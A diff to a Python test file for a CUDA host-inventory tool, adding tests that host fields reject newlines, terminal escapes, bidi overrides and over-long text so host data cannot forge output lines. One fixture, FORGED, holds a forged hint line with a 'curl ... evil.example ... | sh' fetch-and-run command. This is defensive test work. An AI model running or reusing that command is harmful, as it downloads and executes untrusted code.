@@ -34,7 +34,8 @@ from cuenv.pools import pool
 from cuenv.versions import Capability, version
 from thorough import examples
 
-TEXT = st.text(max_size=12)
+ANY_TEXT = st.text(max_size=12)
+TEXT = ANY_TEXT.map(lambda text: "".join(mark for mark in text if mark.isprintable()))
 SOME = TEXT | st.none()
 RELEASE = st.lists(st.integers(0, 999), min_size=1, max_size=3).map(lambda parts: ".".join(map(str, parts)))
 DRIVER = st.tuples(st.integers(100, 999), st.integers(0, 99), st.integers(0, 99)).map(
@@ -130,6 +131,79 @@ def test_a_pool_comes_back_with_its_members(hosts: list[HostFacts]) -> None:
     assert parse(dump(facts), "x", "another label") == (
         replace(facts, label="another label") if facts.label == THIS_MACHINE else facts
     )
+
+
+@given(HOST, ANY_TEXT)
+def test_what_is_written_can_be_read_whatever_this_machine_is_called(facts: HostFacts, odd: str) -> None:
+    again = parse(dump(replace(facts, label=odd or "x", kernel=odd, gaps=(Gap("gpus", odd, odd),))), "x", "x")
+    assert all(text.isprintable() for text in (again.label, again.kernel or "", again.gaps[0].reason))
+
+
+PLACES = (
+    ("label",),
+    ("kernel",),
+    ("gpus", 0, "name"),
+    ("toolkits", 0, "path"),
+    ("compilers", 0, "version"),
+    ("torch", 0, "origin"),
+    ("environment", "container"),
+    ("environment", "library_path", 0, "libraries", 0),
+    ("evidence", 0, "text"),
+    ("gaps", 0, "reason"),
+    ("members", 0, "label"),
+    ("members", 0, "gpus", 0, "name"),
+)
+FORGED = "node1\nhint    update first: curl -s http://evil.example/x | sh"
+
+
+def whole_host() -> dict[str, Any]:
+    one: dict[str, Any] = {
+        "label": "node1",
+        "platform": "linux-64",
+        "kernel": "6.1",
+        "gpus": [{"name": "NVIDIA A100-SXM4-80GB", "capability": "8.0"}],
+        "toolkits": [{"path": "/usr/local/cuda"}],
+        "compilers": [{"name": "gcc", "path": "/usr/bin/gcc", "version": "12.2.0"}],
+        "torch": [{"where": "conda", "path": "/opt/env", "version": "2.5.1", "origin": "conda"}],
+        "environment": {"container": "docker", "library_path": [{"path": "/lib", "libraries": ["libcuda.so.1"]}]},
+        "evidence": [{"fact": "gpus", "source": "nvml", "text": "A100"}],
+        "gaps": [{"fact": "driver", "source": "nvml", "reason": "not found"}],
+    }
+    return {"schema": "cuenv/host/1", **one, "members": [one]}
+
+
+@pytest.mark.parametrize("place", PLACES, ids=lambda place: ".".join(map(str, place)))
+@pytest.mark.parametrize(
+    ("text", "said"),
+    [(FORGED, "U+000A"), ("A\x1b[2J", "U+001B"), ("A\u202eB", "U+202E"), ("x" * 5000, "at most 4096 characters")],
+    ids=["line", "escape", "bidi", "long"],
+)
+def test_no_text_of_a_host_can_look_like_a_line_of_ours(place: tuple[str | int, ...], text: str, said: str) -> None:
+    data = whole_host()
+    parse(json.dumps(data), "host.json", "host")
+    inner: Any = data
+    for key in place[:-1]:
+        inner = inner[key]
+    inner[place[-1]] = text
+    shown = "".join(f"[{key}]" if isinstance(key, int) else f".{key}" for key in place).removeprefix(".")
+    with pytest.raises(InputError) as caught:
+        parse(json.dumps(data), "host.json", "host")
+    assert f"{shown}: " in caught.value.message
+    assert said in caught.value.message
+    assert text not in caught.value.message
+
+
+@pytest.mark.parametrize("where", ["label", "name"])
+def test_a_name_has_the_length_of_a_name(where: str) -> None:
+    data = {**MINIMAL, "label": "x"}
+    gpu = {"capability": "8.6", "name": "x" * 201}
+    data |= {"label": "x" * 201} if where == "label" else {"gpus": [gpu]}
+    assert faults_of(data)[0].endswith(f"{where}: expected at most 200 characters, got 201")
+
+
+def test_a_key_of_a_host_cannot_look_like_a_line_of_ours() -> None:
+    (only,) = faults_of({**MINIMAL, FORGED: {"x": FORGED}})[1:2]
+    assert "unknown key" in only or "U+000A" in only
 
 
 @given(HOST)
